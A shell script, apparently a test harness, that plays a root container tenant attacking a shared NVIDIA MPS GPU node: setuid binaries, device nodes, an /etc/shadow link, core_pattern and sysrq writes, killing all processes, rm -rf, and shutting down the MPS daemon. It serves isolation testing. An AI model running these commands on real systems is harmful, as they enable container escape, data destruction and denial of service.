#!/bin/sh
# What a tenant does who is root in a container with a client on an MPS share, and has the default
# capabilities. Each attack says its name and how it ended; who judges looks at the node, not at this.
# Usage: attacks.sh SECONDS CONTROL (nvidia-cuda-mps-control, which an image may bring).
ENDS=$(($(date +%s) + $1))
CONTROL=$2
PIPE=$CUDA_MPS_PIPE_DIRECTORY
HERE=/tmp/attacks
mkdir -p "$HERE"

attack() {
    name=$1
    shift
    if timeout 20 sh -c "$*" >"$HERE/words" 2>&1; then
        echo "$name: done"
    else
        echo "$name: $(tail -n 1 "$HERE/words")"
    fi
}

on_folder() { # what is left where the node may find it
    attack "$1: setuid program" "cp /bin/busybox $2/x && chmod 4755 $2/x"
    attack "$1: device node" "mknod $2/n c 1 3"
    attack "$1: block device" "mknod $2/b b 8 0"
    attack "$1: nested folders" "cd $2 && i=0; while [ \$i -lt 3000 ]; do mkdir d && cd d || exit 1; i=\$((i+1)); done"
    attack "$1: many files" "i=0; while [ \$i -lt 5000 ]; do : > $2/f\$i || exit 1; i=\$((i+1)); done"
    attack "$1: large file" "dd if=/dev/zero of=$2/large bs=1M count=8192"
    attack "$1: link out" "ln -s /etc/shadow $2/link"
    attack "$1: remount" "mount -o remount,rw,suid,dev,exec $2"
    attack "$1: unmount" "umount $2"
    attack "$1: clear" "rm -rf $2/* && rm $2/control"
}

on_node() {
    for minor in 0 1 2 3 4 5 6 7; do
        attack "GPU $minor by its number" "rm -f $HERE/gpu; mknod $HERE/gpu c 195 $minor && dd if=$HERE/gpu of=/dev/null count=1"
    done
    attack "disk of the node" "rm -f $HERE/disk; mknod $HERE/disk b 8 0 && dd if=$HERE/disk of=/dev/null count=1"
    attack "memory of the node" "rm -f $HERE/mem; mknod $HERE/mem c 1 1 && dd if=$HERE/mem of=/dev/null count=1"
    attack "namespaces of the first process" "nsenter -t 1 -m -p -- ls /var/lib"
    attack "mounts of one's own" "unshare -m true && mount -t tmpfs none /mnt"
    attack "out of a chroot" "mkdir -p $HERE/c && chroot $HERE/c /bin/busybox ls /var/lib/ration"
    attack "core pattern" "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"
    attack "kernel's trigger" "echo b > /proc/sysrq-trigger"
    attack "driver of the node" "awk '\$5 ~ /nvidia|libcuda|simclient/ {print \$5}' /proc/self/mountinfo | while read f; do echo x > \$f && exit 0; done; exit 1"
    attack "every other process" "for p in \$(ls /proc | grep '^[0-9]'); do [ \$p != 1 ] && [ \$p != \$\$ ] && [ \$p != $$ ] && kill -9 \$p; done"
}

on_daemon() {
    attack "all of the threads" "echo set_default_active_thread_percentage 100 | $CONTROL"
    attack "all of the memory" "echo set_default_device_pinned_mem_limit 0 99G | $CONTROL"
    attack "a limit for a GPU that is not seen" "CUDA_MPS_PINNED_DEVICE_MEM_LIMIT=1=4G simclient --allocate max"
    attack "without an environment" "env -i CUDA_MPS_PIPE_DIRECTORY=$PIPE simclient --allocate max"
    attack "end the server" "for s in \$(echo get_server_list | $CONTROL); do echo shutdown_server \$s -f; done | $CONTROL"
    attack "a hundred clients" "i=0; while [ \$i -lt 100 ]; do simclient --allocate 1Mi --hold 2s & i=\$((i+1)); done; wait"
    attack "a flood of questions" "i=0; while [ \$i -lt 300 ]; do echo get_server_list | $CONTROL; i=\$((i+1)); done"
    attack "an idle shell" "sleep 15 | $CONTROL"
    attack "a fatal fault" "simclient --fault"
    attack "end the daemon" "echo quit | $CONTROL"
}

while [ "$(date +%s)" -lt "$ENDS" ]; do
    on_folder "pipe directory" "$PIPE"
    on_folder "shared memory" /dev/shm
    on_node
    on_daemon
done
echo "attacks are over"
